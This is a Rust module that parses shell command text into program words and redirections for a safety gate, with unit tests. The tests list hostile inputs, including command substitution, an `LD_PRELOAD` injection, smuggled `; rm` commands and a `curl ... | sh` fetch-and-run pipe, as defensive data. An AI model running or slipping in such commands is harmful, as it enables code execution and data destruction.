//! `argv(command)` and `commands(command)`: which programs would a shell run, with which words?
//!
//! # Contract
//! `argv` gives the words of one plain command, with the quotes gone. `commands` gives every simple
//! command of a pipeline or list (`|`, `&&`, `||`, `;`, `&`, line breaks), in order, each with its
//! words, at least one, and its redirections (`<`, `>`, `>>`, `>|`, `<>`, `<&`, `>&` with a descriptor
//! of one digit; `&>`, `&>>` behind the last word). What is accepted runs the same programs with the
//! same words in dash, bash and zsh; all else is an error. Single and double quotes, backslashes and
//! escaped line breaks between words are understood; a word that merely imitates an operator has to be
//! quoted.
//!
//! # Attacks stopped
//! - a second command: `;`, `&`, pipes and line breaks (an error in `argv`, visible in `commands`)
//! - text that a shell replaces: variables, `$( )`, backticks, `$' '`, process substitution,
//!   arithmetic, wildcards, braces, `~`, history (`!`, `^a^b`), zsh's `=ls`
//! - another grammar: reserved words, groups, functions, here-documents, comments, assignments before
//!   the command (`LD_PRELOAD=x ls`), quotes without end
//! - two grammars: `|&`, words behind `&>`, `10>x`, `>&file`, escaped line breaks that join operators
//! - deception: control and bidi characters, invisible characters, blanks that are not spaces
//!
//! # What it cannot stop
//! It knows words, not programs. `env`, `sudo`, `xargs`, `find -exec`, `eval`, `bash -c` and `git -C`
//! run or redirect other things; an alias may replace the first word; a script's content, the working
//! directory and `PATH` are unknown, and `cd` changes the meaning of what follows. An option may be
//! written in many ways (`-rf`, `-r -f`, `--recursive`). So let an allow list whole shapes of `argv`
//! instead of a deny naming bad ones. PowerShell, `cmd.exe`, fish and csh read commands differently.

mod words;

use std::borrow::Cow;

use self::words::{Separator, Token, Word, Words};
use super::{FunctionError, bounded};

const NO_COMMAND: FunctionError = FunctionError::new("the text has no command");
const NOT_ONE: FunctionError =
    FunctionError::new("the text is more than one plain command: it has an operator");
const NO_NAME: FunctionError = FunctionError::new("a command has an empty name");
const RESERVED: FunctionError = FunctionError::new("a command begins with a reserved word");
const ASSIGNMENT: FunctionError = FunctionError::new("a command begins with an assignment");
const HISTORY: FunctionError = FunctionError::new("a command begins with `^`");
const MISSING: FunctionError = FunctionError::new("an operator has no command beside it");
const NO_TARGET: FunctionError = FunctionError::new("a redirection has no target");
const TWO_READINGS: FunctionError =
    FunctionError::new("a word stands behind `&>`, which shells read differently");
const DUPLICATION: FunctionError =
    FunctionError::new("a redirection with `&` has no descriptor as its target");

/// First words that begin a construct in POSIX, bash or zsh.
const RESERVED_WORDS: [&str; 22] = [
    "case",
    "coproc",
    "do",
    "done",
    "elif",
    "else",
    "end",
    "esac",
    "fi",
    "for",
    "foreach",
    "function",
    "if",
    "in",
    "nocorrect",
    "repeat",
    "select",
    "then",
    "time",
    "until",
    "while",
    "-",
];

/// One simple command of a list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command<'a> {
    /// The name of the program and its arguments: at least one word.
    pub argv: Vec<Cow<'a, str>>,
    /// Where its input and output are connected, in the order in which they were written.
    pub redirections: Vec<Redirection<'a>>,
}

/// One redirection of a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirection<'a> {
    /// The operator with its descriptor, which is left out where it is the default one: `>` for
    /// `1>`, but `2>`.
    pub operator: &'a str,
    /// A file's name; for `<&` and `>&`, a descriptor or `-`.
    pub target: Cow<'a, str>,
}

/// The words of one plain command.
///
/// ```
/// use stage0_engine::function::argv;
///
/// let words = argv("git commit -m 'fix the gate'")?;
/// assert_eq!(words, ["git", "commit", "-m", "fix the gate"]);
/// assert!(argv("git status && rm -r .").is_err());
/// # Ok::<(), stage0_engine::function::FunctionError>(())
/// ```
///
/// # Errors
/// The text is not exactly one command that every shell reads in the same way.
pub fn argv(command: &str) -> Result<Vec<Cow<'_, str>>, FunctionError> {
    let mut tokens = Words::new(bounded(command)?);
    let mut argv = Vec::new();
    while let Some(token) = tokens.next()? {
        match token {
            Token::Word(word) => push_word(&mut argv, word)?,
            Token::Separator(_) | Token::Redirection(_) => return Err(NOT_ONE),
        }
    }
    if argv.is_empty() {
        return Err(NO_COMMAND);
    }
    Ok(argv)
}

/// Every simple command of a pipeline or list.
///
/// ```
/// use stage0_engine::function::commands;
///
/// let list = commands("sort < in.txt | uniq -c > out.txt 2>&1")?;
/// assert_eq!(list[0].argv, ["sort"]);
/// assert_eq!(list[1].argv, ["uniq", "-c"]);
/// assert_eq!(list[1].redirections[1].operator, "2>&");
/// assert!(commands("echo $(id)").is_err());
/// # Ok::<(), stage0_engine::function::FunctionError>(())
/// ```
///
/// # Errors
/// The text is not a list of commands that every shell reads in the same way.
pub fn commands(command: &str) -> Result<Vec<Command<'_>>, FunctionError> {
    let mut tokens = Words::new(bounded(command)?);
    let mut list = Vec::new();
    let mut argv = Vec::new();
    let mut redirections = Vec::new();
    let mut owes_command = false;
    // dash reads `a &>f b` as `a &` and `>f b`: it would run `b`.
    let mut redirects_both = false;
    loop {
        let separator = match tokens.next()? {
            Some(Token::Word(word)) => {
                if redirects_both {
                    return Err(TWO_READINGS);
                }
                push_word(&mut argv, word)?;
                continue;
            }
            Some(Token::Redirection(operator)) => {
                redirects_both |= operator.starts_with('&');
                redirections.push(redirection(operator, tokens.next()?)?);
                continue;
            }
            Some(Token::Separator(separator)) => Some(separator),
            None => None,
        };
        if argv.is_empty() {
            if !redirections.is_empty() {
                return Err(MISSING);
            }
            match separator {
                Some(Separator::Newline) => continue,
                Some(Separator::Joining | Separator::Ending) => return Err(MISSING),
                None => break,
            }
        }
        list.push(Command {
            argv: std::mem::take(&mut argv),
            redirections: std::mem::take(&mut redirections),
        });
        owes_command = separator == Some(Separator::Joining);
        redirects_both = false;
    }
    if owes_command {
        return Err(MISSING);
    }
    if list.is_empty() {
        return Err(NO_COMMAND);
    }
    Ok(list)
}

/// Adds a word; the first one has to be a program's name and nothing else.
fn push_word<'a>(argv: &mut Vec<Cow<'a, str>>, word: Word<'a>) -> Result<(), FunctionError> {
    if argv.is_empty() {
        let name = word.text.as_ref();
        if name.is_empty() {
            return Err(NO_NAME);
        }
        // Quoted, these are names of programs; nobody has such programs, so quoting is not asked.
        if RESERVED_WORDS.contains(&name) {
            return Err(RESERVED);
        }
        if name.contains('=') {
            return Err(ASSIGNMENT);
        }
        if name.starts_with('^') {
            return Err(HISTORY);
        }
    }
    argv.push(word.text);
    Ok(())
}

fn redirection<'a>(
    operator: &'a str,
    target: Option<Token<'a>>,
) -> Result<Redirection<'a>, FunctionError> {
    let Some(Token::Word(Word { text: target, .. })) = target else {
        return Err(NO_TARGET);
    };
    if target.is_empty() {
        return Err(NO_TARGET);
    }
    if operator.ends_with('&') {
        // bash takes `>&file` for a file, POSIX leaves it open.
        let is_descriptor = target == "-" || matches!(target.as_bytes(), [b'0'..=b'9']);
        if !is_descriptor {
            return Err(DUPLICATION);
        }
    }
    Ok(Redirection { operator, target })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_plain_command_is_split_into_its_words() {
        for (command, expected) in [
            ("ls", vec!["ls"]),
            ("  ls\t-l  ", vec!["ls", "-l"]),
            ("git commit -m 'a b'", vec!["git", "commit", "-m", "a b"]),
            ("echo \"a  b\" c", vec!["echo", "a  b", "c"]),
            ("echo a'b'\"c\"d", vec!["echo", "abcd"]),
            ("echo '' \"\"", vec!["echo", "", ""]),
            (
                "echo \\$HOME \\; \\a \\\\",
                vec!["echo", "$HOME", ";", "a", "\\"],
            ),
            ("echo '$HOME `id` \\'", vec!["echo", "$HOME `id` \\"]),
            (r#"echo "\$x \" \\ \a \`""#, vec!["echo", r#"$x " \ \a `"#]),
            ("echo \"a\\\nb\"", vec!["echo", "ab"]),
            ("echo a \\\n  b \\\n\\\n c", vec!["echo", "a", "b", "c"]),
            (
                "git log HEAD~1 HEAD^",
                vec!["git", "log", "HEAD~1", "HEAD^"],
            ),
            ("nix run nixpkgs#hello", vec!["nix", "run", "nixpkgs#hello"]),
            ("test a = b", vec!["test", "a", "=", "b"]),
            ("dd if=/dev/zero of=x", vec!["dd", "if=/dev/zero", "of=x"]),
            (
                "echo 'Fixed!' \"Fixed\"'!' \"a! b\"",
                vec!["echo", "Fixed!", "Fixed!", "a! b"],
            ),
            (
                "echo \"line\nbreak\" 'tab\t'",
                vec!["echo", "line\nbreak", "tab\t"],
            ),
            (
                "echo '*' \"?\" \\[ '{}' \"~\"",
                vec!["echo", "*", "?", "[", "{}", "~"],
            ),
            ("echo if then", vec!["echo", "if", "then"]),
            (
                "echo 5% a@b a+b a,b c:d e]",
                vec!["echo", "5%", "a@b", "a+b", "a,b", "c:d", "e]"],
            ),
            ("cat caf\u{e9}.txt", vec!["cat", "caf\u{e9}.txt"]),
            (
                "echo '\u{1F468}\u{200D}\u{1F469}'",
                vec!["echo", "\u{1F468}\u{200D}\u{1F469}"],
            ),
        ] {
            assert_eq!(argv(command).unwrap(), expected, "{command:?}");
            let list = commands(command).unwrap();
            assert_eq!(list.len(), 1, "{command:?}");
            assert_eq!(list[0].argv, expected, "{command:?}");
            assert!(list[0].redirections.is_empty(), "{command:?}");
        }
    }

    #[test]
    fn words_without_quotes_are_not_copied() {
        let words = argv("git 'log' HEAD -n 'a'b").unwrap();
        let borrowed = words.iter().filter(|w| matches!(w, Cow::Borrowed(_)));
        assert_eq!(borrowed.count(), 4);
    }

    /// Commands that neither function accepts.
    const HOSTILE: [&str; 117] = [
        "",
        "  ",
        "echo $HOME",
        "echo ${HOME}",
        "echo $(id)",
        "echo $((1+1))",
        "echo `id`",
        "echo \"$(id)\"",
        "echo \"`id`\"",
        "echo \"$HOME\"",
        "echo \"a$\"",
        "echo $'a\\nb'",
        "echo $\"a\"",
        "echo $",
        "$0",
        "cat <(id)",
        "tee >(id)",
        "cat <<EOF\nx\nEOF",
        "cat <<-EOF",
        "cat <<< x",
        "ls *",
        "ls ?",
        "ls [ab]",
        "[ a = b ]",
        "[[ a ]]",
        "ls a*",
        "ls ~",
        "ls ~root",
        "ls a=~",
        "ls --prefix=~/x",
        "ls a:~",
        "ls ''~",
        "echo {a,b}",
        "echo a{1..9}",
        "echo {}",
        "{ ls; }",
        "(ls)",
        "ls (a)",
        "f() { ls; }",
        "function f",
        "ls@(a|b)",
        "! ls",
        "!!",
        "!ls",
        "echo a!b",
        "echo \"!x\"",
        "echo \"x!\"",
        "echo \"x!\" \"; rm x; \"",
        "echo \"\\!x\"",
        "^ls^rm",
        "'^'ls",
        "=ls",
        "=",
        "echo =ls",
        "echo ='ls'",
        "ls # rm",
        "# ls",
        "#!/bin/sh",
        "FOO=1",
        "FOO=1 ls",
        "LD_PRELOAD=/tmp/x.so ls",
        "FOO+=1 ls",
        "'FOO=1' ls",
        "FOO='a b' ls",
        "if true",
        "then",
        "while true",
        "for",
        "case x in",
        "time ls",
        "coproc ls",
        "select x",
        "'if' true",
        "\\time ls",
        "- ls",
        "repeat 3 ls",
        "'' ls",
        "\"\"",
        "echo 'a",
        "echo \"a",
        "echo a'",
        "echo \"a\\\"",
        "echo \\",
        "echo a\\\nb",
        "2\\\n>x",
        "ls \\\r\n",
        "ls\r",
        "ls\r\nrm x",
        "ls \0",
        "echo '\0'",
        "echo \"\u{1b}[31m\"",
        "echo \u{7}",
        "ls\u{a0}-l",
        "ls\u{2003}-l",
        "ls\u{3000}-l",
        "ls\u{85}rm",
        "ls\u{2028}rm",
        "ls \u{200b}-l",
        "l\u{ad}s",
        "echo \u{202e}x",
        "echo '\u{202e}x'",
        "echo \"\u{2066}x\"",
        "\u{feff}ls",
        "ls \\\u{200b}",
        "ls |& cat",
        "ls 10>x",
        "ls >",
        "ls > | cat",
        "ls >&x",
        "ls >& 12",
        "ls &>",
        "ls &>f x",
        "ls &>>f >g x",
        "&>f ls",
        "ls > ''",
        "> x",
        "ls > $x",
    ];

    #[test]
    fn hostile_commands_are_refused() {
        for command in HOSTILE {
            assert!(argv(command).is_err(), "{command:?}");
            assert!(commands(command).is_err(), "{command:?}");
        }
    }

    #[test]
    fn every_character_is_an_answer_wherever_it_stands() {
        for character in '\0'..='\u{3000}' {
            for command in [
                format!("a{character}"),
                format!("{character}a"),
                format!("'{character}'"),
            ] {
                assert!(!argv(&command).is_ok_and(|words| words.is_empty()));
            }
        }
    }

    #[test]
    fn hostile_commands_are_refused_anywhere_in_a_list() {
        for command in HOSTILE.into_iter().filter(|c| !c.trim().is_empty()) {
            for list in [format!("ls && {command}"), format!("ls\n{command}")] {
                assert!(commands(&list).is_err(), "{list:?}");
            }
        }
    }

    #[test]
    fn one_plain_command_has_no_operators() {
        for command in [
            "ls;rm x",
            "ls ; rm x",
            "ls;",
            "ls&rm x",
            "ls &",
            "ls&&rm x",
            "ls||rm x",
            "ls|sh",
            "ls\nrm x",
            "ls\n",
            "\nls",
            "ls>x",
            "ls >x",
            "ls >>x",
            "ls 2>x",
            "ls 2>&1",
            "ls &>x",
            "ls <x",
            "<x ls",
            "ls <>x",
            "ls >|x",
            "ls;;rm",
        ] {
            assert_eq!(argv(command), Err(NOT_ONE), "{command:?}");
        }
    }

    /// Each command as its words, then its redirections in angle quotes.
    fn shown(command: &str) -> Result<String, FunctionError> {
        let show = |command: &Command<'_>| {
            let mut parts: Vec<String> = command.argv.iter().map(ToString::to_string).collect();
            for Redirection { operator, target } in &command.redirections {
                parts.push(format!("<{operator}|{target}>"));
            }
            parts.join(" ")
        };
        let list = commands(command)?;
        Ok(list.iter().map(show).collect::<Vec<_>>().join(" // "))
    }

    #[test]
    fn every_command_of_a_list_is_seen() {
        for (command, expected) in [
            ("a && b", "a // b"),
            ("a&&b||c;d&e|f", "a // b // c // d // e // f"),
            ("a;", "a"),
            ("a &", "a"),
            ("\n\na\n\nb\n", "a // b"),
            ("a &&\n\n b |\n c", "a // b // c"),
            ("a;\nb", "a // b"),
            ("a ';' b; c '&&' \\| d", "a ; b // c && | d"),
            ("curl http://x.com/a | sh", "curl http://x.com/a // sh"),
            ("a \\\n && b", "a // b"),
            ("a > f", "a <>|f>"),
            ("a>f b", "a b <>|f>"),
            (">f a", "a <>|f>"),
            ("a 1>f", "a <>|f>"),
            ("a 0<f", "a <<|f>"),
            ("a 2>f", "a <2>|f>"),
            ("a 2 >f", "a 2 <>|f>"),
            ("a2>f", "a2 <>|f>"),
            ("a '2'>f", "a 2 <>|f>"),
            ("a >> 'f g'", "a <>>|f g>"),
            ("a 2>>f", "a <2>>|f>"),
            ("a >f 2>&1", "a <>|f> <2>&|1>"),
            ("a >&2", "a <>&|2>"),
            ("a 2>&-", "a <2>&|->"),
            ("a <&0", "a <<&|0>"),
            ("a &>f", "a <&>|f>"),
            ("a &>>f", "a <&>>|f>"),
            ("a &>f 2>g && b c", "a <&>|f> <2>|g> // b c"),
            ("a >|f", "a <>||f>"),
            ("a <>f", "a <<>|f>"),
            ("a <f | b >g", "a <<|f> // b <>|g>"),
        ] {
            assert_eq!(shown(command).as_deref(), Ok(expected), "{command:?}");
        }
    }

    #[test]
    fn an_operator_without_a_command_is_refused() {
        for command in [
            ";",
            "&",
            "|",
            "&& a",
            "a &&",
            "a |",
            "a ||\n",
            "a ;; b",
            "a ; ; b",
            "a & ; b",
            "a && && b",
            "a | | b",
            "a &\n& b",
            "\n; a",
            "a; >f",
            "a | >f",
            "a &\\\n>f b",
            "a &\\\n& b",
            "a |\\\n| b",
        ] {
            assert!(commands(command).is_err(), "{command:?}");
        }
    }
}
